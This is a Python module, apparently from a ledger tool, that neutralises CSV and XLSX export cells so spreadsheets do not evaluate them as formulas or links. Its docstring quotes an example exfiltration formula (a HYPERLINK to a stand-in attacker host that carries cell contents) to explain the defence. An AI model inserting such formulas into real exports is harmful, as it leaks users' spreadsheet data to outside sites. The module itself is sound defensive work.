"""Exported cells that spreadsheet programs show as text, never run as formulas or follow as links.

Ledger text comes from suppliers, brokers and uploaded files, and exports are opened in Excel or LibreOffice.
A description such as ``=HYPERLINK("https://evil.example/?"&A1, "details")`` written as-is would become a
live formula there (CSV/formula injection), able to send the neighbouring cells to another site or, through
DDE, run a program. Every export therefore goes through this module:

- **XLSX**: workbooks are created with :data:`WORKBOOK_OPTIONS`, so XlsxWriter writes every string as a
  string (``strings_to_formulas`` off) and turns no string into a link (``strings_to_urls`` off, which also
  stops ``external:`` links to local files). Writers that want a link write it explicitly.
- **CSV**: a text cell that a spreadsheet would read as a formula (first character ``= + - @``, a tab or a
  carriage return, or their full-width forms) gets a leading apostrophe, the usual escape, which the
  spreadsheet shows as plain text. A text cell that is just a number (``-12.5``) is left alone, and numeric
  columns are never touched: numbers stay numbers.
"""

from __future__ import annotations

import re
from typing import Any, Final

import polars as pl

WORKBOOK_OPTIONS: Final[dict[str, Any]] = {"strings_to_formulas": False, "strings_to_urls": False}
"""Options for every ``xlsxwriter.Workbook`` critmin writes (merge others in, never drop these)."""

ESCAPE = "'"
# Characters that make a spreadsheet parse a cell as a formula (OWASP "CSV Injection"), plus the full-width
# forms some locales' Excel accept as well.
_TRIGGER_CLASS = "=+\\-@\t\r\uff1d\uff0b\uff0d\uff20"
_TRIGGER = re.compile(f"^[{_TRIGGER_CLASS}]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def needs_escape(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula rather than as the text or number it is."""
    return bool(_TRIGGER.match(text)) and not _NUMBER.match(text)


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never evaluate it: prefixed with ``'`` only when needed."""
    return ESCAPE + text if needs_escape(text) else text


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text column (String, Categorical, Enum) neutralised; other columns as they are.

    Vectorised: one expression per text column, no Python loop over rows.
    """
    text_columns = [
        name
        for name, dtype in frame.schema.items()
        if dtype in (pl.String, pl.Categorical) or dtype == pl.Enum
    ]
    if not text_columns:
        return frame
    return frame.with_columns(_neutralised(pl.col(name).cast(pl.String)).alias(name) for name in text_columns)


def _neutralised(text: pl.Expr) -> pl.Expr:
    risky = text.str.contains(_TRIGGER.pattern) & ~text.str.contains(_NUMBER.pattern)
    return pl.when(risky).then(pl.lit(ESCAPE) + text).otherwise(text)


def csv_text(frame: pl.DataFrame, **options: Any) -> str:
    """The frame as CSV with text cells neutralised (``options`` go to ``DataFrame.write_csv``)."""
    text: str = neutralise_frame(frame).write_csv(**options)
    return text
